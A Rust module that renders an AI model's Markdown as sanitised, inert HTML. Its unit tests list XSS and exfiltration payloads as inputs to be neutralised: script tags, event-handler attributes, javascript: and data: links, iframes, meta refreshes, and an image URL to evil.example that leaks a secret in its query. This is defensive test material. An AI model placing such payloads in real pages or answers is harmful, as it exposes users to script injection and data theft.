//! Renders the model's Markdown as inert HTML: nothing in it runs, loads, or covers the page (THREATS.md line 45).

mod address;
mod code;
mod escape;
mod highlight;
mod language;
mod links;

use std::{collections::HashSet, sync::LazyLock};

use ammonia::Builder;
use foundation::tr;
use pulldown_cmark::{Alignment, Event, Options, Parser, Tag, TagEnd, TextMergeStream, html};

/// Maximum nesting depth of quotes, lists and emphasis. Deeper text loses its markup. The sanitiser's time grows with
/// the square of the depth, and blocks its thread (line 47).
const DEEPEST: usize = 24;

/// The start of the last block of whole lines. Everything before it is finished, whatever follows. (A line that is
/// still open may belong to the block before it.)
pub(crate) fn finished(text: &str) -> usize {
    let whole = text.rfind('\n').map_or("", |at| &text[..=at]);
    let (mut depth, mut last) = (0_usize, 0);
    for (event, range) in parser(whole).into_offset_iter() {
        match event {
            Event::Start(_) => {
                if depth == 0 {
                    last = range.start;
                }
                depth += 1;
            }
            Event::End(_) => depth = depth.saturating_sub(1),
            _ if depth == 0 => last = range.start,
            _ => {}
        }
    }
    last
}

/// Whether the text defines reference links that other blocks may use: `[1]: https://…`.
pub(crate) fn defines_links(text: &str) -> bool {
    parser(text).reference_definitions().iter().next().is_some()
}

/// The words of our own HTML: a space where a block, a cell or a line ends.
pub fn plain(html: &str) -> String {
    let mut text = String::new();
    let mut rest = html;
    while let Some((words, tag)) = rest.split_once('<') {
        text += words;
        let (tag, after) = tag.split_once('>').unwrap_or((tag, ""));
        let name = tag.trim_start_matches('/').split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or_default();
        if !matches!(name, "a" | "b" | "code" | "del" | "em" | "i" | "s" | "span" | "strong" | "sub" | "sup") {
            text.push(' ');
        }
        rest = after;
    }
    text += rest;
    for (entity, character) in [("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&#39;", "'"), ("&amp;", "&")] {
        text = text.replace(entity, character);
    }
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// As [`html`], off the runtime's threads: long code has many spans to sanitise.
pub(crate) async fn rendered(text: String) -> String {
    let rendered = tokio::task::spawn_blocking(move || html(&text)).await;
    // The renderer doesn't panic. If it did, the answer would still continue.
    rendered.unwrap_or_else(|_| {
        let words = tr!("This part of the answer can’t be shown.", "Dieser Teil der Antwort lässt sich nicht zeigen.");
        format!("<p>{words}</p>")
    })
}

/// A finished block, rendered and sanitised.
pub(crate) fn html(text: &str) -> String {
    let mut alignments = Vec::new();
    let mut column = 0;
    let mut in_head = false;
    let mut depth = 0_usize;
    let shallow = parser(text).filter(move |event| match event {
        Event::Start(_) => {
            depth += 1;
            depth <= DEEPEST
        }
        Event::End(_) => {
            depth = depth.saturating_sub(1);
            depth < DEEPEST
        }
        _ => true,
    });
    let events = shallow.map(|event| match event {
        // HTML is shown as text.
        Event::Html(html) | Event::InlineHtml(html) => Event::Text(html),
        // An image would contact its server, so it becomes a link.
        Event::Start(Tag::Image { link_type, dest_url, title, id }) => {
            Event::Start(Tag::Link { link_type, dest_url, title, id })
        }
        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
        Event::Start(Tag::Table(columns)) => {
            alignments = columns;
            // Alignments become classes, so that no `style` attribute is written.
            Event::Start(Tag::Table(vec![Alignment::None; alignments.len()]))
        }
        Event::Start(Tag::TableHead) => {
            (in_head, column) = (true, 0);
            Event::Start(Tag::TableHead)
        }
        Event::End(TagEnd::TableHead) => {
            in_head = false;
            Event::End(TagEnd::TableHead)
        }
        Event::Start(Tag::TableRow) => {
            column = 0;
            Event::Start(Tag::TableRow)
        }
        Event::Start(Tag::TableCell) => {
            let class = match alignments.get(column) {
                Some(Alignment::Right) => " class=\"right\"",
                Some(Alignment::Center) => " class=\"center\"",
                _ => "",
            };
            column += 1;
            let cell = if in_head { "th" } else { "td" };
            Event::InlineHtml(format!("<{cell}{class}>").into())
        }
        other => other,
    });
    let mut text = String::new();
    let linked = links::with_hosts(address::linked(TextMergeStream::new(events)));
    html::push_html(&mut text, code::highlighted(linked));
    CLEANER.clean(&text).to_string()
}

fn parser(text: &str) -> Parser<'_> {
    Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH)
}

/// The second line of defence: whatever the renderer lets through, only these elements remain.
static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let tags: HashSet<&str> = [
        "p",
        "br",
        "hr",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
        "blockquote",
        "pre",
        "code",
        "em",
        "strong",
        "del",
        "a",
        "span",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    ]
    .into();
    let mut builder = Builder::new();
    builder
        .tags(tags)
        .tag_attributes([("a", ["href"].into()), ("ol", ["start"].into()), ("pre", ["data-language"].into())].into())
        .generic_attributes(HashSet::new())
        .allowed_classes(
            [
                ("th", ["right", "center"].into()),
                ("td", ["right", "center"].into()),
                ("span", ["host", "hl-k", "hl-s", "hl-c", "hl-n", "hl-f", "hl-a", "hl-d"].into()),
            ]
            .into(),
        )
        .url_schemes(["http", "https", "mailto"].into())
        .link_rel(Some("noopener nofollow"));
    builder
});

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn blocks_are_finished_when_the_next_begins() {
        assert_eq!(finished("Hello"), 0);
        assert_eq!(finished("Hello\n\n"), 0);
        // An open line may continue the previous block.
        assert_eq!(finished("Hello\n\nWo"), 0);
        assert_eq!(finished("Hello\n\nWorld\n"), 7);
        assert_eq!(finished("Hello\n\n# World\n"), 7);
        assert_eq!(finished("- a\n- b\n"), 0);
        assert_eq!(finished("- a\n\n- b\n"), 0);
        assert_eq!(finished("- a\n\nThen\n"), 5);
        assert_eq!(finished("```\na\n\nb\n"), 0);
        assert_eq!(finished("```\na\n```\nb\n"), 10);
        assert_eq!(finished("a\nb\n"), 0);
        assert_eq!(finished("a\n\n---\nb\n"), 7);
    }

    #[test]
    fn blocks_one_by_one_are_the_whole() {
        let text = "# Title\n\nA *b* `c`.\n\n- one\n- two\n\n| a | b |\n|--|--:|\n| 1 | 2 |\n\n```\nlet x;\n```\n\nEnd";
        let (mut tail, mut parts) = (String::new(), String::new());
        for c in text.chars() {
            tail.push(c);
            let rest = tail.split_off(finished(&tail));
            parts.push_str(&html(&tail));
            tail = rest;
        }
        parts.push_str(&html(&tail));
        assert_eq!(parts, html(text));
    }

    #[test]
    fn reference_links_and_bare_addresses_are_links() {
        for (text, shown) in [
            (
                "See [x][1].\n\n[1]: https://a.example/b\n",
                "See <a href=\"https://a.example/b\">x <span class=\"host\">(a.example)</span></a>.",
            ),
            (
                "See https://a.example/b_c?d=1&e=2.",
                "See <a href=\"https://a.example/b_c?d=1&amp;e=2\">https://a.example/b_c?d=1&amp;e=2</a>.",
            ),
            ("(http://localhost:3000/)", "(<a href=\"http://localhost:3000/\">http://localhost:3000/</a>)"),
            ("https://a.example/w_(x)", "<a href=\"https://a.example/w_(x)\">https://a.example/w_(x)</a>"),
            ("**www.a.example**, ok", "<strong><a href=\"http://www.a.example\">www.a.example</a></strong>, ok"),
            ("HTTPS://A.example!", "<a href=\"HTTPS://A.example\">HTTPS://A.example</a>!"),
            // None of these is a bare address.
            ("`https://a.example`", "<code>https://a.example</code>"),
            ("[https://a.example/](https://a.example)", "<a href=\"https://a.example\">https://a.example/</a>"),
            (
                "xhttps://a.example a=https://a.example https:// www. www.a",
                "xhttps://a.example a=https://a.example https:// www. www.a",
            ),
            ("javascript://a.example ftp://a.example", "javascript://a.example ftp://a.example"),
        ] {
            let html = html(text).replace(" rel=\"noopener nofollow\"", "");
            assert_eq!(html.trim(), format!("<p>{shown}</p>"), "{text}");
        }
        assert!(defines_links("a\n\n[1]: https://a.example\n") && !defines_links("a [1]: b `[1]: c`\n"));
    }

    #[test]
    fn table_cells_are_aligned_by_class() {
        let html = html("| a | b | c |\n|---|--:|:-:|\n| 1 | 2 | 3 |");
        assert!(html.contains("<th>a</th><th class=\"right\">b</th><th class=\"center\">c</th>"), "{html}");
        assert!(html.contains("<td>1</td><td class=\"right\">2</td><td class=\"center\">3</td>"), "{html}");
        assert!(!html.contains("style"), "{html}");
    }

    /// THREATS.md line 45.
    #[test]
    fn line_45_markdown_of_the_model_is_inert() {
        for (evil, never) in [
            ("<script>alert(1)</script>", "<script"),
            ("<img src=x onerror=alert(1)>", "<img"),
            ("![x](https://evil.example/?q=secret)", "<img"),
            ("[x](javascript:alert(1))", "javascript:"),
            ("[x](JaVaScRiPt:alert(1))", "cript:alert"),
            ("[x](&#106;avascript:alert(1))", "javascript:"),
            ("[x](data:text/html,<script>)", "data:"),
            ("<javascript:alert(1)>", "href=\"javascript"),
            ("<form action=https://evil.example><input></form>", "<form"),
            ("<div style='position:fixed;inset:0'>x</div>", "<div"),
            ("a <span onclick=alert(1)>b</span>", "<span"),
            ("<style>*{display:none}</style>", "<style"),
            ("<iframe src=//evil.example></iframe>", "<iframe"),
            ("<a href=\"x\" onmouseover=\"alert(1)\">x</a>", "<a href"),
            ("<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta"),
            ("<svg/onload=alert(1)>", "<svg"),
            ("<p class=card>x</p>", "<p class"),
            ("```html\" onload=\"x\n<script>\n```", "onload=\"x\""),
            ("[x](https://ok.example \"t\\\" onclick=\\\"y\")", "onclick=\"y"),
        ] {
            let html = html(evil);
            assert!(!html.contains(never), "{evil}: {html}");
        }
        let link = html("[x](https://example.com)");
        assert_eq!(
            link,
            "<p><a href=\"https://example.com\" rel=\"noopener nofollow\">x <span class=\"host\">(example.com)</span></a></p>\n"
        );
        assert!(html("![alt](https://evil.example/i.png)").contains("<a href"), "an image becomes a link");
    }

    /// THREATS.md line 45, first defence: HTML is shown as text, not as markup.
    #[test]
    fn line_45_html_of_the_model_is_shown_as_text() {
        for evil in
            ["<script>alert(1)</script>", "a <b onclick=x>b</b> c", "<!-- x -->", "<p>x</p>", "<div>\n*x*\n</div>"]
        {
            let html = html(evil);
            let shown = html.replace("&lt;", "<").replace("&gt;", ">");
            assert!(html.contains("&lt;") && shown.contains(evil), "{evil}: {html}");
        }
    }

    /// THREATS.md line 45, second defence: HTML that passed the first loses all elements but those of Markdown.
    #[test]
    fn line_45_html_past_the_first_wall_is_taken_out() {
        for (evil, never) in [
            ("<script>alert(1)</script>", "alert"),
            ("<style>*{display:none}</style>", "display"),
            ("<img src=https://evil.example/i.png>", "<img"),
            ("<form action=https://evil.example><input name=x><button>x</button></form>", "<form"),
            ("<form action=https://evil.example><input name=x><button>x</button></form>", "<input"),
            ("<form action=https://evil.example><input name=x><button>x</button></form>", "<button"),
            ("<iframe src=//evil.example></iframe>", "<iframe"),
            ("<svg><a href=x>x</a></svg>", "<svg"),
            ("<meta http-equiv=refresh content=0>", "<meta"),
            ("<link rel=stylesheet href=//evil.example>", "<link"),
            ("<base href=//evil.example>", "<base"),
            ("<div>x</div>", "<div"),
            ("<p style=position:fixed>x</p>", "style"),
            ("<p class=card id=log>x</p>", "<p "),
            ("<a href=x onmouseover=alert(1)>x</a>", "alert"),
            ("<a href=javascript:alert(1)>x</a>", "alert"),
            ("<a href=data:text/html,x>x</a>", "data:"),
            ("<a href=https://x target=top>x</a>", "target"),
        ] {
            let html = CLEANER.clean(evil).to_string();
            assert!(!html.contains(never), "{evil}: {html}");
        }
    }

    /// THREATS.md lines 45 and 47: deep nesting, which would take minutes to sanitise, is cut and keeps its text.
    #[test]
    fn line_45_deep_nesting_costs_no_time() {
        for (one, end) in [
            (">", "x"),
            ("https://a)", ""),
            ("- ", "x"),
            ("1. ", "x"),
            ("*a ", ""),
            ("[", ""),
            ("![", ""),
            ("**a _b ", ""),
        ] {
            let deep = one.repeat(20_000 / one.len()) + end + "\n";
            finished(&deep);
            let html = html(&deep);
            assert!(html.matches("<blockquote").count() <= DEEPEST && html.matches("<li").count() <= DEEPEST, "{one}");
            assert!(end.is_empty() || html.contains(end), "{one}");
        }
        assert_eq!(html("> > a\n").matches("<blockquote>").count(), 2);
    }
}
